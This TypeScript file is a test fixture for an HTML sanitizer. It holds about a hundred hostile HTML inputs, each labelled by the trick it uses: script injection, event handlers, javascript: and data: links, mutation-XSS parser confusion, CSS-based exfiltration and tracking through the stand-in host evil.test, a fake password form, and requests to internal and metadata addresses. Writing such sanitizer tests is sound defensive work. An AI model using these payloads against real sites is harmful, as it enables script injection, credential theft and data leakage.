/** HTML as attackers write it, by what it tries. Every entry must come out harmless; `words` must survive. */
export const hostileHtml: { tries: string; html: string; words?: string }[] = [
  { tries: 'a script', html: '<script>alert(1)</script>bonjour', words: 'bonjour' },
  { tries: 'a script in capitals', html: '<SCRIPT SRC="https://evil.test/x.js"></SCRIPT>' },
  { tries: 'a script inside a script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { tries: 'a script never closed', html: '<script>alert(1)' },
  { tries: 'a script with a slash', html: '<script/src="https://evil.test/x.js"></script>' },
  { tries: 'a script after a broken tag', html: '<<script>alert(1);//<</script>' },
  { tries: 'a module', html: '<script type="module">import "https://evil.test/x.js"</script>' },
  { tries: 'an error handler', html: '<img src=x onerror=alert(1)>' },
  { tries: 'a handler with a slash for space', html: '<img/src=x/onerror=alert(1)>' },
  { tries: 'a handler with a line feed', html: '<img src=x\nonerror\n=\nalert(1)>' },
  { tries: 'a handler behind a NUL', html: '<img src=x on\u0000error=alert(1)>' },
  { tries: 'a handler with backquotes', html: '<img src=`x` onerror=`alert(1)`>' },
  { tries: 'a handler after a stray quote', html: '<img """><script>alert(1)</script>">' },
  { tries: 'a load handler', html: '<body onload=alert(1)>bonjour</body>', words: 'bonjour' },
  { tries: 'a toggle handler', html: '<details open ontoggle=alert(1)>bonjour</details>' },
  { tries: 'a focus handler', html: '<a href="#" autofocus tabindex=1 onfocus=alert(1)>x</a>' },
  {
    tries: 'an animation handler',
    html: '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>',
  },
  {
    tries: 'a pointer handler',
    html: '<div onpointerover=alert(1) onmouseover=alert(2)>survolez</div>',
    words: 'survolez',
  },
  { tries: 'a link to a script', html: '<a href="javascript:alert(1)">lien</a>', words: 'lien' },
  { tries: 'a link in mixed case', html: '<a href="JaVaScRiPt:alert(1)">lien</a>' },
  { tries: 'a link with a tab inside', html: '<a href="java\tscript:alert(1)">lien</a>' },
  {
    tries: 'a link with entities',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;cript&colon;alert(1)">lien</a>',
  },
  {
    tries: 'a link with hexadecimal entities without semicolons',
    html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>',
  },
  { tries: 'a link behind control characters', html: '<a href="\u0001\u0002 javascript:alert(1)">lien</a>' },
  { tries: 'a link with an invisible character', html: '<a href="java\u200bscript:alert(1)">lien</a>' },
  {
    tries: 'a link to data',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien</a>',
  },
  { tries: 'a link to VBScript', html: '<a href="vbscript:msgbox(1)">lien</a>' },
  { tries: 'a link to a file', html: '<a href="file:///etc/passwd">lien</a>' },
  {
    tries: 'a link to our own pages',
    html: '<a href="/api/v1/contacts">lien</a><a href="//evil.test/">lien</a>',
  },
  { tries: 'a link that pings', html: '<a href="https://a.test" ping="https://evil.test/p">lien</a>' },
  {
    tries: 'a link that steals the opener',
    html: '<a href="https://a.test" target="_top" rel="opener">lien</a>',
  },
  { tries: 'a link that downloads', html: '<a href="https://a.test" download>lien</a>' },
  { tries: 'a frame', html: '<iframe src="https://evil.test"></iframe>bonjour', words: 'bonjour' },
  { tries: 'a frame with its own page', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { tries: 'a frame of scripts', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { tries: 'a frame set', html: '<frameset><frame src="https://evil.test"></frameset>' },
  {
    tries: 'an object',
    html: '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">',
  },
  { tries: 'an applet', html: '<applet code=x archive="https://evil.test/x.jar"></applet>' },
  {
    tries: 'a form',
    html: '<form action="https://evil.test"><input name=password type=password><button>Valider</button></form>',
  },
  { tries: 'a button with its own action', html: '<button formaction="javascript:alert(1)">x</button>' },
  { tries: 'a picture button', html: '<input type=image src="https://evil.test/p.png">' },
  { tries: 'a refresh', html: '<meta http-equiv=refresh content="0;url=https://evil.test">' },
  { tries: 'a base', html: '<base href="https://evil.test/">' },
  { tries: 'a stylesheet', html: '<link rel=stylesheet href="https://evil.test/x.css">' },
  {
    tries: 'a prefetch',
    html: '<link rel=dns-prefetch href="//evil.test"><link rel=preload as=image href="https://evil.test/p.png">',
  },
  { tries: 'a remote picture', html: '<img src="https://evil.test/p.png">' },
  { tries: 'a remote picture without scheme', html: '<img src="//evil.test/p.png">' },
  { tries: 'a remote picture by srcset', html: '<img srcset="https://evil.test/p.png 2x">' },
  {
    tries: 'a picture pointing inside',
    html: '<img src="http://127.0.0.1:4400/api/v1/me"><img src="http://169.254.169.254/latest">',
  },
  {
    tries: 'a picture of our own server',
    html: '<img src="/api/auth/sign-out"><img src="api/auth/sign-out">',
  },
  {
    tries: 'a picture that is a script',
    html: '<img src="javascript:alert(1)"><img lowsrc="https://evil.test/p" dynsrc="https://evil.test/d">',
  },
  {
    tries: 'an SVG picture in data',
    html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  },
  {
    tries: 'a picture element',
    html: '<picture><source srcset="https://evil.test/p.webp"><img src="x"></picture>',
  },
  {
    tries: 'a video and its poster',
    html: '<video src="https://evil.test/v.mp4" poster="https://evil.test/p.png" autoplay><source src="https://evil.test/v"></video>',
  },
  {
    tries: 'a sound',
    html: '<audio src="https://evil.test/a.mp3" autoplay></audio><bgsound src="https://evil.test/b.mid">',
  },
  {
    tries: 'a background attribute',
    html: '<table background="https://evil.test/p.png"><tr><td background="//evil.test/q.png">x</td></tr></table>',
  },
  {
    tries: 'a background of the body',
    html: '<body background="https://evil.test/p.png">bonjour</body>',
    words: 'bonjour',
  },
  {
    tries: 'an inline SVG',
    html: '<svg onload=alert(1)><script>alert(2)</script><image href="https://evil.test/p.png"/></svg>',
  },
  { tries: 'an SVG link', html: '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>' },
  { tries: 'an SVG animation', html: '<svg><animate attributeName=href values=javascript:alert(1) /></svg>' },
  { tries: 'an SVG use', html: '<svg><use href="https://evil.test/x.svg#a"/></svg>' },
  {
    tries: 'an SVG foreign object',
    html: '<svg><foreignObject><iframe src="https://evil.test"></iframe></foreignObject></svg>',
  },
  {
    tries: 'MathML',
    html: '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  },
  {
    tries: 'confusion by math and style',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  },
  {
    tries: 'confusion by svg and style',
    html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  },
  {
    tries: 'confusion by noscript',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  { tries: 'confusion by a template', html: '<template><script>alert(1)</script></template>' },
  {
    tries: 'confusion by a text area',
    html: '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  },
  {
    tries: 'confusion by a title',
    html: '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  },
  { tries: 'confusion by xmp', html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>' },
  { tries: 'confusion by plaintext', html: '<plaintext><img src=x onerror=alert(1)>' },
  {
    tries: 'confusion by a select',
    html: '<select><style></select><img src=x onerror=alert(1)></style></select>',
  },
  {
    tries: 'confusion by a form in a form',
    html: '<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },
  { tries: 'a conditional comment', html: '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->' },
  { tries: 'a comment closed early', html: '<!--><img src=x onerror=alert(1)>-->' },
  { tries: 'a comment closed strangely', html: '<!-- --!><img src=x onerror=alert(1)> -->' },
  { tries: 'a CDATA', html: '<![CDATA[<img src=x onerror=alert(1)>]]>' },
  { tries: 'a processing instruction', html: '<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>' },
  { tries: 'a picture by CSS', html: '<p style="background:url(https://evil.test/p.png)">x</p>' },
  {
    tries: 'a picture by CSS in quotes',
    html: `<p style='background-image: url("https://evil.test/p.png")'>x</p>`,
  },
  { tries: 'a picture by escaped CSS', html: '<p style="background:\\75 rl(https://evil.test/p.png)">x</p>' },
  {
    tries: 'a picture by CSS with comments',
    html: '<p style="background:u/**/rl(https://evil.test/p.png)">x</p>',
  },
  {
    tries: 'a picture by image-set',
    html: `<p style="background:image-set('https://evil.test/p.png' 1x)">x</p>`,
  },
  {
    tries: 'a picture by a list',
    html: '<ul style="list-style-image:url(https://evil.test/p.png)"><li>x</ul>',
  },
  { tries: 'a picture by a cursor', html: '<p style="cursor:url(https://evil.test/p.cur),auto">x</p>' },
  { tries: 'a picture by content', html: '<p style="content:url(https://evil.test/p.png)">x</p>' },
  { tries: 'a picture by a border', html: '<p style="border-image:url(https://evil.test/p.png) 30">x</p>' },
  {
    tries: 'a picture by a mask and a filter',
    html: '<p style="mask:url(https://evil.test/m.svg);filter:url(https://evil.test/f.svg)">x</p>',
  },
  { tries: 'an expression', html: '<p style="width:expression(alert(1))">x</p>' },
  {
    tries: 'an expression hidden',
    html: '<p style="width:exp/**/ression(alert(1));width:e\\78pression(alert(1))">x</p>',
  },
  {
    tries: 'a binding',
    html: '<p style="-moz-binding:url(https://evil.test/x.xml#a);behavior:url(x.htc)">x</p>',
  },
  {
    tries: 'words over the page',
    html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">connectez-vous</div>',
  },
  {
    tries: 'words out of the page',
    html: '<p style="margin-left:-9999px;text-indent:-9999px;transform:scale(9)">x</p>',
  },
  { tries: 'CSS that closes its attribute', html: `<p style='color:red"onmouseover="alert(1)'>x</p>` },
  {
    tries: 'an import',
    html: '<style>@import "https://evil.test/x.css"; @import url(//evil.test/y.css);</style>bonjour',
    words: 'bonjour',
  },
  {
    tries: 'a font',
    html: '<style>@font-face{font-family:x;src:url(https://evil.test/f.woff)}p{font-family:x}</style><p>bonjour</p>',
    words: 'bonjour',
  },
  {
    tries: 'a style sheet with pictures',
    html: '<style>p{background:url(https://evil.test/p.png);color:red}</style><p>bonjour</p>',
    words: 'bonjour',
  },
  {
    tries: 'a style sheet that spies',
    html: '<style>input[value^="a"]{background:url(https://evil.test/a)}</style>',
  },
  {
    tries: 'a style sheet that closes itself',
    html: '<style>p{color:red}</style/x><img src=x onerror=alert(1)></style>',
  },
  {
    tries: 'a style sheet with a tag inside',
    html: '<style>p{font-family:"</style><img src=x onerror=alert(1)>"}</style>',
  },
  {
    tries: 'a style sheet with escapes',
    html: '<style>p{font-family:"\\3c/style\\3e\\3cimg src=x onerror=alert(1)\\3e"}</style><p>x</p>',
  },
  {
    tries: 'a style sheet in nested at-rules',
    html: '<style>@media screen{@media print{@import "https://evil.test/x.css";p{background:url(//evil.test/p)}}}</style>',
  },
  {
    tries: 'our own marks',
    html: '<p data-quoted="" data-cid="x" data-remote-src="https://evil.test/p.png">bonjour</p>',
    words: 'bonjour',
  },
  { tries: 'names that hide ours', html: '<p id="root" name="getElementById">bonjour</p>', words: 'bonjour' },
  {
    tries: 'an is attribute and a slot',
    html: '<p is="x-evil" slot="x" part="y" contenteditable>bonjour</p>',
    words: 'bonjour',
  },
  {
    tries: 'an attribute with a quote in its name',
    html: '<p """=x onclick"=alert(1)>bonjour</p>',
    words: 'bonjour',
  },
  { tries: 'a tag with a strange name', html: '<x-evil onclick=alert(1)>bonjour</x-evil>', words: 'bonjour' },
  { tries: 'a marquee', html: '<marquee onstart=alert(1)>bonjour</marquee>', words: 'bonjour' },
  {
    tries: 'a portal, a fenced frame and a dialog',
    html: '<portal src="https://evil.test"></portal><fencedframe src="https://evil.test"></fencedframe><dialog open>x</dialog>',
  },
  {
    tries: 'a map',
    html: '<img src=x usemap="#m"><map name=m><area href="javascript:alert(1)" shape=default></map>',
  },
  { tries: 'UTF-7', html: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-' },
  {
    tries: 'overlong nesting',
    html: `${'<div>'.repeat(5000)}<img src=x onerror=alert(1)>${'</div>'.repeat(5000)}`,
  },
]
